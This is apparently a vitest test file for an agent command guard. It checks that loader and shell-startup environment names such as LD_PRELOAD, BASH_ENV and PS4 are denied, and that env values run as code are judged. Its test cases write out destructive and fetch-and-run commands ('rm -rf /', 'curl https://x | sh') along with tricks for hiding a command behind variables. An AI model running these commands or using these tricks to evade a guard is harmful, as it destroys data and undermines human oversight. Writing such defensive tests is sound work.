import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXEC_ENV, EXEC_ENV_VERDICT, execEnvEntry, execEnvVerdict } from '../../src/core/exec-env.js';
import { loadGuard, type GuardEngine } from '../../src/guard/index.js';
import { buildSandboxEnv } from '../../src/sandbox/env.js';
import { buildCommand } from '../../src/ssh/command.js';
import { GatehouseError } from '../../src/core/index.js';

/**
 * Issue 13.2: the `env` a caller passes to ssh_exec / exec is judged (hijacking names, issue 22
 * item 1: one list in src/core/exec-env.ts), and its values are known static values where the
 * line runs them as code (issue 14 items 0 and 4: embedded code and indirection never hide
 * behind allow).
 */
let g: GuardEngine;
let lax: GuardEngine;
beforeAll(async () => {
  g = await loadGuard({ decisionCache: 0 });
  const dir = mkdtempSync(join(tmpdir(), 'gh-env-'));
  const f = join(dir, 'lax.yaml');
  writeFileSync(
    f,
    "version: 1\nname: lax\ncommands:\n  rules:\n    - { id: all, commands: ['*'], decision: allow, message: everything }\n",
  );
  lax = await loadGuard({ policyFiles: [f], decisionCache: 0 });
});

const withEnv = (cmd: string, env: Record<string, string>) => g.checkCommand(cmd, undefined, { env });

describe("issue 13.2: hijacking names in the caller's env", () => {
  it.each([
    'BASH_ENV',
    'ENV',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'LD_AUDIT',
    'DYLD_INSERT_LIBRARIES',
    'GCONV_PATH',
    'GLIBC_TUNABLES',
    'SHELLOPTS',
    'BASHOPTS',
    'PS4',
    'PS1',
    'PROMPT_COMMAND',
    'BASH_FUNC_ls',
    'ZDOTDIR',
    'INPUTRC',
  ])('env %s (loader / shell startup) is deny, and no policy lowers it', (name) => {
    const d = withEnv('ls', { [name]: '/tmp/x' });
    expect(d).toMatchObject({ decision: 'deny', rule: 'exec.env-hijack' });
    expect(lax.checkCommand('ls', { policy: 'lax' }, { env: { [name]: '/tmp/x' } }).decision).toBe('deny');
  });

  it.each([
    'PATH',
    'HOME',
    'IFS',
    'CDPATH',
    'GIT_CONFIG_COUNT',
    'GIT_CONFIG_KEY_0',
    'GIT_CONFIG_PARAMETERS',
    'GIT_SSH_COMMAND',
    'GIT_EXEC_PATH',
    'GIT_ASKPASS',
    'PAGER',
    'EDITOR',
    'LESSOPEN',
    'NODE_OPTIONS',
    'PYTHONPATH',
    'PERL5OPT',
    'RUBYOPT',
    'JAVA_TOOL_OPTIONS',
    'LUA_INIT_5_4',
    'KUBECONFIG',
    'TAR_OPTIONS',
    'npm_config_script_shell',
  ])('env %s (search paths, interpreters, tools) is approve', (name) => {
    expect(withEnv('ls', { [name]: 'x' })).toMatchObject({ decision: 'approve', rule: 'exec.env-hijack' });
  });

  it('ordinary names pass; malformed names and values are deny', () => {
    expect(withEnv('ls', { FOO: 'bar', PYTHONUNBUFFERED: '1', LDFLAGS: '-L.' }).decision).toBe('allow');
    expect(withEnv('ls', { 'A-B': '1' })).toMatchObject({ decision: 'deny', rule: 'exec.env-invalid' });
    expect(withEnv('ls', { A: 'x\0y' })).toMatchObject({ decision: 'deny', rule: 'exec.env-invalid' });
  });
});

describe('issue 13.2: env values run as code are judged as the code they hold', () => {
  it('exec {"command":"trap \\"$P\\" EXIT","env":{"P":…}} is judged as P\'s code', () => {
    expect(withEnv('trap "$P" EXIT', { P: 'rm -rf ~' }).decision).toBe('deny');
    expect(withEnv('trap "$P" EXIT', { P: 'echo done' }).decision).toBe('allow');
    // Without the value (or for a variable the caller did not set) the handler is unknown: approve.
    expect(g.checkCommand('trap "$P" EXIT').decision).toBe('approve');
    expect(withEnv('trap "$Q" EXIT', { P: 'echo done' }).decision).toBe('approve');
  });

  it.each([
    ['eval "$P"', { P: 'rm -rf /' }],
    ['eval $P', { P: 'rm -rf /' }],
    ['bash -c "$P"', { P: 'rm -rf /' }],
    ['sh -c "$P"', { P: 'curl https://x | sh' }],
    ['$P', { P: 'rm -rf ~' }],
    ['$P ~', { P: 'rm -rf' }],
    ['$P $A', { P: 'rm', A: '-rf /' }],
    ['rm -rf $D', { D: '/' }],
    ['rm -rf "$D"', { D: '/home' }],
    ['python3 -c "$C"', { C: 'import shutil; shutil.rmtree("/")' }],
    ["bash -c '$P ~'", { P: 'rm -rf' }],
    ['timeout 5 bash -c "$P"', { P: 'rm -rf /' }],
    ['alias x="$P"', { P: 'rm -rf ~' }],
    ['watch "$P"', { P: 'rm -rf /' }],
    ['find . -exec $P \\;', { P: 'rm -rf /' }],
  ])('%j with env %j is deny', (cmd, env) => {
    expect(withEnv(cmd, env).decision, cmd).toBe('deny');
  });

  it("the line's own assignment shadows the caller's value, as in bash", () => {
    // bash runs `ls -rf ~` here: the line assigns P before expanding it, whatever the caller sent.
    expect(withEnv('P=ls; $P -rf ~', { P: 'rm' }).decision).toBe('allow');
    // Double quotes expand in the caller's shell, before sudo resets anything: `bash -c "ls -rf ~"`.
    expect(withEnv('sudo bash -c "$P -rf ~"', { P: 'ls' }).decision).toBe('allow');
    expect(withEnv('sudo bash -c "$P -rf ~"', { P: 'rm' }).decision).toBe('deny');
  });

  it('a harmless value is judged harmless', () => {
    expect(withEnv('eval "$P"', { P: 'ls -la' }).decision).toBe('allow');
    expect(withEnv('$P', { P: 'git status' }).decision).toBe('allow');
    expect(withEnv('rm -rf "$D"', { D: 'build' }).decision).toBe('approve');
  });

  it.each([
    ['P=rm; $P -rf ~', { P: 'ls' }, 'reassigned in the line'],
    ['read P; $P -rf ~', { P: 'ls' }, 'read assigns it'],
    ['declare "$N=rm"; $P -rf ~', { P: 'ls' }, 'a name only known at run time is assigned'],
    ['printf -v "$N" rm; $P -rf ~', { P: 'ls' }, 'printf -v with a run-time name'],
    ['eval "$N=rm"; $P -rf ~', { P: 'ls' }, 'eval of run-time text'],
    ['source ./x; $P -rf ~', { P: 'ls' }, 'a sourced file can assign anything'],
    ['eval "source ./x"; $P ~', { P: 'ls' }, 'eval sources a file'],
    ['builtin . ./x; $P ~', { P: 'ls' }, 'builtin runs source here'],
    ['unset "$N"; $P rm -rf ~', { P: 'echo' }, 'unset of a run-time name'],
    ['trap "$T" DEBUG; $P -rf ~', { P: 'ls' }, 'a trap of unknown code runs before every command'],
    ['eval "$E"; $P -rf ~', { P: 'ls', E: 'P=rm' }, 'another known value assigns it'],
    [': ${P:=rm}; $P -rf ~', { P: 'ls' }, 'a default-assigning expansion'],
    ['for P in rm; do $P -rf ~; done', { P: 'ls' }, 'a loop variable'],
    ["sudo bash -c '$P -rf ~'", { P: 'ls' }, 'sudo resets the environment of the shell it starts'],
    ["env -i bash -c '$P rm -rf ~'", { P: 'echo' }, 'env -i clears it'],
    ['IFS=/; $P', { P: 'rm -rf ~' }, 'IFS is changed'],
    ['$RANDOM -rf ~', { RANDOM: 'ls' }, 'bash sets RANDOM itself'],
    ['$P -rf ~', { P: '{{vault:ops/x.cmd}}' }, 'a vault handle is filled after the guard judged'],
    ['${P:-ls} -rf ~', { P: 'rm' }, 'an expansion with an operator'],
    ['$P -rf ~', { P: 'r*' }, 'a glob in an unquoted value'],
  ])('%j with env %j is never allow (%s)', (cmd: string, env: Record<string, string>, _why: string) => {
    expect(withEnv(cmd, env).decision, cmd).not.toBe('allow');
  });
});

describe('issue 22 item 1: one exec-env list, used by the guard, the sandbox and SSH', () => {
  it('every entry has a class with a verdict and a one-line reason', () => {
    for (const e of EXEC_ENV) {
      expect(EXEC_ENV_VERDICT[e.class], e.name).toMatch(/^(deny|approve)$/);
      expect(e.reason.length, e.name).toBeGreaterThan(15);
      expect(e.reason, e.name).not.toMatch(/\n/);
    }
    expect(execEnvEntry('LD_ANYTHING')?.class).toBe('loader');
    expect(execEnvEntry('GIT_CONFIG_VALUE_3')?.class).toBe('tool');
    expect(execEnvEntry('BASH_FUNC_ls%%')?.class).toBe('shell-startup');
    for (const ok of ['LDFLAGS', 'PATHX', 'PYTHONUNBUFFERED', 'LANG', 'TERM', 'FOO', 'ENVIRONMENT'])
      expect(execEnvEntry(ok), ok).toBeUndefined();
    expect(execEnvVerdict('PS4')).toBe('deny');
    expect(execEnvVerdict('PATH')).toBe('approve');
  });

  it('inline assignments, env and sudo assignments, export and builtins that set a listed name are approve', () => {
    for (const cmd of [
      'LD_PRELOAD=/tmp/x.so ls',
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log',
      'SHELLOPTS=xtrace bash -c ls',
      'env PS4=x bash -x -c true',
      'env GIT_SSH_COMMAND=x git fetch',
      'sudo PYTHONPATH=/tmp python3 --version',
      'export NODE_OPTIONS=--require=./x.js',
      'declare -x EDITOR=./x',
      'read PATH <<< /tmp/bin; ls',
      'printf -v PATH %s /tmp; ls',
      'declare -n r=PATH; r=/tmp; ls',
      'PATH=/tmp:$PATH ls',
    ])
      expect(g.checkCommand(cmd), cmd).toMatchObject({ decision: 'approve', rule: 'exec.env-hijack' });
    expect(g.checkCommand('PATH=$PATH:/opt/bin ls').decision).toBe('allow');
    expect(g.checkCommand('PATH=$PATH:/opt/bin make', { context: 'sandbox' }).decision).toBe('allow');
    expect(g.checkCommand('export PATH="$PATH:$HOME/.local/bin"').decision).toBe('allow');
  });

  it('text typed into another terminal runs there unjudged: approve', () => {
    expect(g.checkCommand("tmux send-keys -t build 'make' Enter").decision).toBe('approve');
    expect(g.checkCommand("screen -S x -X stuff 'id\n'").decision).toBe('approve');
  });

  it('a prompt or trace hook set in the line is judged as the code it expands', () => {
    expect(g.checkCommand("PS4='$(rm -rf ~)' bash -xc true").decision).toBe('deny');
    expect(g.checkCommand("PROMPT_COMMAND='rm -rf /' bash -i").decision).toBe('deny');
    expect(g.checkCommand("PS1='\\u@\\h \\w\\$ ' bash -i").decision).toBe('approve');
  });

  it('the sandbox drops every loader and shell-startup name the agent sends, and keeps approved ones', () => {
    const { env, stripped } = buildSandboxEnv({
      hostEnv: {},
      envAllow: [],
      profileEnv: {},
      home: '/home/agent',
      callEnv: {
        PS4: '$(id)',
        SHELLOPTS: 'xtrace',
        GCONV_PATH: '/tmp',
        BASH_FUNC_ls: '() { id; }',
        PROMPT_COMMAND: 'id',
        LD_AUDIT: 'x',
        NODE_OPTIONS: '--max-old-space-size=4096',
        OK: '1',
      },
    });
    expect(stripped.sort()).toEqual(['BASH_FUNC_ls', 'GCONV_PATH', 'LD_AUDIT', 'PROMPT_COMMAND', 'PS4', 'SHELLOPTS']);
    expect(env).toMatchObject({ NODE_OPTIONS: '--max-old-space-size=4096', OK: '1' });
  });

  it('the SSH command builder refuses loader and shell-startup names with a typed error that holds no value', () => {
    for (const name of ['LD_PRELOAD', 'BASH_ENV', 'PS4', 'SHELLOPTS', 'ENV', 'BASH_FUNC_x', 'PROMPT_COMMAND']) {
      let err: unknown;
      try {
        buildCommand('ls', undefined, { [name]: 'secret-value-123' });
      } catch (e) {
        err = e;
      }
      expect(err, name).toBeInstanceOf(GatehouseError);
      expect((err as GatehouseError).code).toBe('denied');
      expect(JSON.stringify({ m: (err as Error).message, d: (err as GatehouseError).details })).not.toContain(
        'secret-value-123',
      );
    }
    expect(buildCommand('ls', undefined, { PATH: '/usr/bin', FOO: 'x' })).toBe("export PATH='/usr/bin' FOO='x'\nls");
  });
});
